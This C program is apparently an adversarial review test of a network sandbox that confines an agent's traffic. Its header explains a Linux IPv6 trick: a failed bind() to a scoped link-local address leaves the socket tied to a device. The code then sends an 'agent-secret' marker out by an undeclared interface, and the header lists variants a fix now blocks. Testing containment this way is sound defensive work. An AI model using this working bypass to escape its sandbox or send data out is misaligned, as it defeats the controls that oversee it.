/* ha13-bindfail: hostile review h-attack13. The output interface without
 * any trapped option: bind() (never trapped) of an IPv6 socket to a
 * link-local address with a scope id writes the scope id into
 * sk_bound_dev_if before it looks the address up (__inet6_bind: "Override
 * any existing binding, if another one is supplied by user"), and a failed
 * bind (EADDRNOTAVAIL: fe80::dead is nobody's) does not put it back. The
 * socket is left unbound but bound to the device: SO_BINDTODEVICE by
 * another name, no capability. A send to the declared IPv4 address as
 * ::ffff:a.b.c.d (judged as IPv4, routed by udp_sendmsg / tcp_v4_connect
 * with that oif) then leaves by that link, where the kernel takes it for
 * on-link (as in ha12-oif).
 *
 *   ha13-bindfail MODE DEST:PORT IFNAME
 *     udp        bind(fe80::dead%IFNAME) (fails), sendto(::ffff:DEST)
 *     tcp        the same on a TCP socket, connect(::ffff:DEST), write()
 *     mcast      UDP: bind(ff02::1%IFNAME) succeeds (no local address check
 *                for multicast); shows the device kept either way
 *     udpplain   control: no bind, sendto(::ffff:DEST)
 *     llconnect  connect(fe80::dead%IFNAME, port 9999): a DECLARED link-local
 *                destination (the run adds --allow [fe80::dead]:9999); the
 *                scope id stays in sk_bound_dev_if after the connect
 *                (__ip6_datagram_connect), so the later sendto(::ffff:DEST)
 *                to the other declared address leaves by IFNAME too
 *                ("Known limits" admits the link-local address on every
 *                link, not every declared address on the link-local's link)
 *   Tried and held (the fix refuses them or the kernel ignores them):
 *     pkt6       sendmsg(::ffff:DEST) with an IPV6_PKTINFO control message
 *                naming IFNAME (ip_cmsg_send reads it for a mapped send)
 *     pkt2292    the same with IPV6_2292PKTINFO (type 2; ip6_datagram_send_ctl
 *                takes it like IPV6_PKTINFO)
 *     pktopts    IPV6_2292PKTOPTIONS holding an IPV6_PKTINFO naming IFNAME,
 *                then sendto(::ffff:DEST)
 *     mcastif    IP_MULTICAST_IF and IPV6_MULTICAST_IF naming IFNAME, then
 *                sendto(::ffff:DEST) (a unicast destination)
 *     scope      sendto(::ffff:DEST) with sin6_scope_id = IFNAME's index
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int held(const char *mode, struct sockaddr_in6 *dst, const char *ifname)
{
	union {
		char buf[CMSG_SPACE(sizeof(struct in6_pktinfo))];
		struct cmsghdr align;
	} u;
	struct in6_pktinfo pi = {.ipi6_ifindex = (int)if_nametoindex(ifname)};
	char msg[64];
	struct iovec iov = {.iov_base = msg};
	struct msghdr mh = {
	    .msg_name = dst, .msg_namelen = sizeof(*dst), .msg_iov = &iov, .msg_iovlen = 1};
	struct cmsghdr *c;
	int s = socket(AF_INET6, SOCK_DGRAM, 0);
	long rc = 0;

	snprintf(msg, sizeof(msg), "agent-secret via held-%s", mode);
	iov.iov_len = strlen(msg);
	memset(u.buf, 0, sizeof(u.buf));
	mh.msg_control = u.buf;
	mh.msg_controllen = sizeof(u.buf);
	c = CMSG_FIRSTHDR(&mh);
	c->cmsg_level = IPPROTO_IPV6;
	c->cmsg_type = strcmp(mode, "pkt2292") == 0 ? 2 : IPV6_PKTINFO;
	c->cmsg_len = CMSG_LEN(sizeof(pi));
	memcpy(CMSG_DATA(c), &pi, sizeof(pi));
	if (strcmp(mode, "pktopts") == 0) {
		rc = setsockopt(s, IPPROTO_IPV6, 6 /* IPV6_2292PKTOPTIONS */, u.buf, sizeof(u.buf));
		printf("agent: IPV6_2292PKTOPTIONS = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
		mh.msg_control = NULL;
		mh.msg_controllen = 0;
	} else if (strcmp(mode, "mcastif") == 0) {
		struct ip_mreqn mr = {.imr_ifindex = pi.ipi6_ifindex};
		int idx = pi.ipi6_ifindex;

		rc = setsockopt(s, IPPROTO_IP, IP_MULTICAST_IF, &mr, sizeof(mr));
		printf("agent: IP_MULTICAST_IF = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
		rc = setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
		printf("agent: IPV6_MULTICAST_IF = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
		mh.msg_control = NULL;
		mh.msg_controllen = 0;
	} else if (strcmp(mode, "scope") == 0) {
		dst->sin6_scope_id = (uint32_t)pi.ipi6_ifindex;
		mh.msg_control = NULL;
		mh.msg_controllen = 0;
	}
	rc = sendmsg(s, &mh, 0);
	printf("agent uid %d held-%s: %ld (%s)\n", getuid(), mode, rc,
	       rc < 0 ? strerror(errno) : "ok");
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, ll = {.sin6_family = AF_INET6};
	char msg[64], host[64], dev[IFNAMSIZ + 1] = "", *colon;
	const char *mode;
	socklen_t dl = sizeof(dev) - 1;
	int s, tcp;
	long rc;

	if (argc != 4) {
		fprintf(stderr, "usage: ha13-bindfail MODE DEST:PORT IFNAME\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	tcp = strcmp(mode, "tcp") == 0;
	if (strcmp(mode, "pkt6") == 0 || strcmp(mode, "pkt2292") == 0 ||
	    strcmp(mode, "pktopts") == 0 || strcmp(mode, "mcastif") == 0 ||
	    strcmp(mode, "scope") == 0)
		return held(mode, &dst, argv[3]);
	s = socket(AF_INET6, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (strcmp(mode, "llconnect") == 0) {
		inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
		ll.sin6_port = htons(9999);
		ll.sin6_scope_id = if_nametoindex(argv[3]);
		rc = connect(s, (struct sockaddr *)&ll, sizeof(ll));
		printf("agent: connect(fe80::dead%%%s) = %ld (%s)\n", argv[3], rc,
		       rc < 0 ? strerror(errno) : "ok");
	} else if (strcmp(mode, "udpplain") != 0) {
		inet_pton(AF_INET6, strcmp(mode, "mcast") == 0 ? "ff02::1" : "fe80::dead",
			  &ll.sin6_addr);
		ll.sin6_scope_id = if_nametoindex(argv[3]);
		rc = bind(s, (struct sockaddr *)&ll, sizeof(ll));
		printf("agent: bind(%s%%%s) = %ld (%s)\n",
		       strcmp(mode, "mcast") == 0 ? "ff02::1" : "fe80::dead", argv[3], rc,
		       rc < 0 ? strerror(errno) : "ok");
	}
	getsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	printf("agent: socket now bound to device '%s'\n", dev);
	snprintf(msg, sizeof(msg), "agent-secret via bind-%s", mode);
	if (tcp) {
		rc = connect(s, (struct sockaddr *)&dst, sizeof(dst));
		printf("agent: connect(%s) = %ld (%s)\n", host, rc,
		       rc < 0 ? strerror(errno) : "ok");
		rc = rc < 0 ? rc : write(s, msg, strlen(msg));
		usleep(300 * 1000);
	} else {
		rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&dst, sizeof(dst));
	}
	printf("agent uid %d %s to %s: %ld (%s)\n", getuid(), mode, host, rc,
	       rc < 0 ? strerror(errno) : "ok");
	close(s);
	return 0;
}
